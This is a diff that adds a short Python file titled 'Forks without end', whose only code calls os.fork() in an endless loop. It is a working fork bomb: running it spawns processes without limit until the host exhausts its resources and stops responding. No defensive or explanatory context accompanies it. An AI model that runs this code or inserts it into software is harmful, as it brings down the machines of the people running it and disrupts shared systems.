@@ -1,0 +1,6 @@
+"""Forks without end."""
+
+import os
+
+while True:
+    os.fork()
